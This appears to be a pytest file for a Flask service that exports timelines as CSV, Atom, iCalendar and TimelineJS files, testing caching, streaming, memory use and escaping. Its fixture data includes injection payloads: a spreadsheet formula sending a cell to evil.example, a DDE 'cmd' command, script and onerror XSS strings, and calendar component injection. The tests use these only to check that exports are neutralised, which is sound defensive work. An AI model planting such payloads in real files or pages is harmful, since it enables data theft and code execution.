"""Timelines as files, over HTTP: unchanged ones, text that would be code, and long ones, streamed."""

import csv
import io
import json
import threading
import tracemalloc
from collections.abc import Iterator
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from icalendar import Calendar
from lxml import etree

from service import recording
from service import settings as all_settings
from service.app import create_app
from service.diplomacy.changes import Change
from service.exports.timeline_formats import FORMATS
from service.questions.stories import BATCH
from service.settings import Settings
from service.storage import database, mentioned, migrate
from tests.conftest import ACTOR, SOURCE, TRACK, Another, statement, talk
from tests.test_query_counts import queries

every_format = pytest.mark.parametrize("name", FORMATS)
MANY = 3_000


def record(documents: dict[str, dict[str, Any]]) -> None:
    recording.write([Change(document["kind"], id, document) for id, document in documents.items()], "test")


# --- unchanged -------------------------------------------------------------------------------------------


@every_format
@pytest.mark.parametrize("path", ["/v1/timeline", "/v1/tracks/us-led-peace-talks/timeline"])
def test_a_file_answers_304_while_nothing_changed(demo: Settings, path: str, name: str) -> None:
    client = create_app(demo).test_client()
    accepted = {"Accept": FORMATS[name].media_type}
    for url, asking in ((f"{path}?format={name}", {}), (path, accepted)):
        first = client.get(url, headers=asking)
        tag = first.headers["ETag"]
        body = first.data
        for method in ("GET", "HEAD"):
            for tags in (tag, f'W/{tag}, "x"', "*"):
                answer = client.open(url, method=method, headers={"If-None-Match": tags, **asking})
                assert (answer.status_code, answer.data, answer.headers["ETag"]) == (304, b"", tag)
                assert not {"Content-Disposition", "Content-Type"} & set(answer.headers.keys())
                assert answer.headers["Vary"] == "Authorization, Accept"
        other = client.get(url, headers={"If-None-Match": '"x"', **asking})
        assert (other.status_code, other.data) == (200, body)
        record({f"new-{len(asking)}": ACTOR})
        changed = client.get(url, headers={"If-None-Match": tag, **asking})
        assert (changed.status_code, changed.headers["ETag"] != tag) == (200, True)
        assert changed.data


def test_no_format_has_the_tag_of_another(demo: Settings) -> None:
    """Not at one address either, where Accept alone tells them apart."""
    client = create_app(demo).test_client()
    media_types = ["application/json", *(format.media_type for format in FORMATS.values())]
    tags = {}
    for media_type in media_types:
        answer = client.get("/v1/timeline", headers={"Accept": media_type})
        assert answer.data
        tags[media_type] = answer.headers["ETag"]
    assert len(set(tags.values())) == len(media_types) == 5
    for media_type, tag in tags.items():
        for other in media_types:
            answer = client.get("/v1/timeline", headers={"Accept": other, "If-None-Match": tag})
            assert answer.status_code == (304 if other == media_type else 200)
            assert bool(answer.data) == (other != media_type)
    # Who says the same in other words has the same answer.
    asking = {"Accept": "text/csv;q=0.9, image/png", "If-None-Match": tags["text/csv"]}
    assert client.get("/v1/timeline", headers=asking).status_code == 304


@every_format
def test_head_has_the_headers_of_get_and_reads_no_entry(demo: Settings, name: str) -> None:
    client = create_app(demo).test_client()
    url = f"/v1/tracks/us-led-peace-talks/timeline?format={name}"
    got = client.get(url)
    assert got.data
    with queries() as sent:
        answer = client.head(url)
    assert (answer.status_code, answer.data) == (200, b"")
    its_own = {name: got.headers[name] for name in ("RateLimit", "X-Request-Id")}
    assert {**answer.headers, **its_own} == dict(got.headers)
    assert not any("document" in sql for sql, _ in sent)


def test_every_format_is_described(client: FlaskClient) -> None:
    api = client.get("/openapi.json").json
    for path in ("/v1/timeline", "/v1/tracks/{id}/timeline"):
        described = api["paths"][path]["get"]
        content = described["responses"]["200"]["content"]
        assert set(content) == {"application/json", *(format.media_type for format in FORMATS.values())}
        assert content["application/json"]["schema"] == {"$ref": "#/components/schemas/TimelinePage"}
        assert content["text/calendar"]["schema"] == {"type": "string"}
        parameters = {one["name"]: one for one in described["parameters"]}
        assert parameters["format"]["schema"]["enum"] == ["json", *FORMATS]
        assert "file" in parameters["limit"]["description"]
        assert "JSON only" in parameters["cursor"]["description"]
        assert all(f"`{name}`" in described["description"] for name in FORMATS)


# --- text that would be code -----------------------------------------------------------------------------

EVIL = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "markup": "</title></entry><script>alert(1)</script>]]><!--&lt;&#0;",
    "calendar": "A round\\nEND:VEVENT\\;BEGIN:VALARM,ACTION:PROCEDURE",
    "quotes": "\"'`';--",
    "javascript": "</script><img src=x onerror=alert(1)>",
}


@pytest.fixture
def evil(client: FlaskClient) -> FlaskClient:
    """A caller of a store whose titles, names and texts are attacks."""
    lines = "So be it.\nEND:VEVENT\nEND:VCALENDAR\n=1+1"
    url = "https://evil.example/?a='\"<b>&c=%0d%0a"
    record({"ann": {**ACTOR, "name": EVIL["markup"]}, "track": {**TRACK, "title": EVIL["markup"]}})
    record({"source": {**SOURCE, "title": EVIL["formula"], "publisher": EVIL["javascript"], "url": url}})
    record({id: talk(title=title, track="track") for id, title in EVIL.items()})
    record({"said": statement(text=lines, track="track", notes="\t=1+1")})
    return client


def test_a_spreadsheet_runs_nothing(evil: FlaskClient) -> None:
    data = evil.get("/v1/tracks/track/timeline?format=csv").data.decode()
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(data, newline=""))}
    assert set(rows) == {*EVIL, "said"}
    for id, title in EVIL.items():
        assert rows[id]["title"].removeprefix("'") == title
    cells = [cell for row in rows.values() for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_xml_holds_text_and_no_markup_of_its_own(evil: FlaskClient) -> None:
    query = {"format": "atom", "kind": "talk,statement", "actor": "ann"}
    root = etree.fromstring(evil.get("/v1/tracks/track/timeline", query_string={"format": "atom"}).data)
    assert {element.tag.rpartition("}")[2] for element in root.iter()} == {
        "feed", "id", "title", "updated", "author", "name", "generator", "link", "entry", "published",
        "temporal", "category", "content",
    }  # fmt: skip
    atom = "{http://www.w3.org/2005/Atom}"
    assert root.findtext(f"{atom}title") == EVIL["markup"]
    assert set(EVIL.values()) < {entry.findtext(f"{atom}title") for entry in root.iter(f"{atom}entry")}
    # What stands in the address comes back in the feed.
    asked = etree.fromstring(evil.get("/v1/timeline", query_string=query).data)
    assert asked.find(f"{atom}link").get("href").endswith("kind=talk,statement&actor=ann")


def test_a_calendar_holds_the_entries_and_no_other_component(evil: FlaskClient) -> None:
    calendar = Calendar.from_ical(evil.get("/v1/tracks/track/timeline?format=ics").data)
    assert [one.name for one in calendar.walk()] == ["VCALENDAR", *["VEVENT"] * (len(EVIL) + 1)]
    assert all(not one.errors for one in calendar.walk())
    shown = {str(event["UID"]): event for event in calendar.events}
    for id in set(EVIL) - {"calendar"}:  # Of which icalendar reads a backslash and an n as a line break.
        assert shown[f"{id}@parley"]["SUMMARY"] == EVIL[id]
    assert "END:VCALENDAR\n=1+1" in shown["said@parley"]["DESCRIPTION"]


def test_timelinejs_gets_text_and_no_html_of_others(evil: FlaskClient) -> None:
    read = json.loads(evil.get("/v1/tracks/track/timeline?format=timelinejs").data)
    for slide in (*read["events"], read["title"]):
        text = slide["text"]["headline"] + slide["text"]["text"]
        assert not [sign for sign in ("<script", "<img", "<!--", "</title") if sign in text]
        assert slide["autolink"] is False


# --- long ones -------------------------------------------------------------------------------------------


def filled(home: Any, url: str, many: int) -> Flask:
    """A service on a store with so many statements, each with a source of its own, on one track."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PARLEY_HOME", str(home))
        patch.setenv("PARLEY_SYNCHRONOUS", "normal")
        patch.setenv("PARLEY_DATABASE_URL", url)
        settings = all_settings.load()
    database.connect(settings, create=True)
    migrate.migrate()
    record({"ann": ACTOR, "track": TRACK})
    documents: dict[str, dict[str, Any]] = {}
    for n in range(many):
        # Instants, which are quick to read.
        made = f"{2000 + n // 336}-{n // 28 % 12 + 1:02}-{n % 28 + 1:02}T12:00:00Z"
        documents[f"p{n}"] = {**SOURCE, "title": f"Paper {n}"}
        documents[f"s{n:05}"] = statement(
            made=made, track="track", sources=[{"source": f"p{n}"}], text="So. " * 50
        )
    record(documents)
    return create_app(settings)


@pytest.fixture(scope="module")
def apps(tmp_path_factory: pytest.TempPathFactory, another: Another) -> dict[int, Flask]:
    return {many: filled(tmp_path_factory.mktemp("long"), another(), many) for many in (BATCH, MANY)}


def chunks(app: Flask, name: str) -> Iterator[bytes]:
    """The body, piece by piece, as a server sends it."""
    database.connect(app.config["PARLEY"])
    answer = app.test_client().get(f"/v1/tracks/track/timeline?format={name}", buffered=False)
    assert answer.status_code == 200
    yield from answer.iter_encoded()
    answer.close()


@every_format
def test_a_long_timeline_costs_two_queries_for_every_batch(apps: dict[int, Flask], name: str) -> None:
    sent = {}
    for many, app in apps.items():
        mentioned._kept = mentioned._Kept()
        with queries() as counted:
            data = b"".join(chunks(app, name))
        sent[many] = len(counted)
        places = [data.index(f"s{n:05}".encode()) for n in range(many)]
        assert places == sorted(places)
        assert f"Paper {many - 1}".encode() in data.replace(b"\r\n ", b"")  # iCalendar folds its lines
    assert sent[MANY] - sent[BATCH] == 2 * (MANY - BATCH) // BATCH
    assert sent[BATCH] <= 12


@every_format
def test_the_first_piece_comes_before_any_entry_is_read(apps: dict[int, Flask], name: str) -> None:
    pieces = chunks(apps[MANY], name)
    with queries() as counted:
        first = next(pieces)
    assert first
    assert not any("s0" in sql or len(parameters) >= BATCH for sql, parameters in counted)
    assert len(counted) <= 10
    assert len(first) < 1_000
    assert sum(map(len, pieces)) > MANY * 200


@every_format
def test_memory_does_not_grow_with_the_timeline(apps: dict[int, Flask], name: str) -> None:
    peaks, sizes = {}, {}
    for many in (BATCH, BATCH, MANY):  # The first time, what is loaded and cached once.
        tracemalloc.start()
        try:
            sizes[many] = sum(map(len, chunks(apps[many], name)))
            peaks[many] = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
    assert sizes[MANY] > 4 * sizes[BATCH]
    assert peaks[MANY] < 1.5 * peaks[BATCH]


@every_format
def test_a_file_is_of_one_moment(apps: dict[int, Flask], name: str) -> None:
    """What is recorded while it is written is in the next one."""
    app, late = apps[BATCH], f"late-{name}"
    whole = b"".join(chunks(app, name))
    pieces = chunks(app, name)
    held = [next(pieces)]

    def write() -> None:
        record({late: statement(made="2999", track="track", sources=[{"source": "p1"}])})
        database.database.close()

    writing = threading.Thread(target=write)
    writing.start()
    writing.join()
    assert b"".join([*held, *pieces]) == whole
    assert late.encode() in b"".join(chunks(app, name))
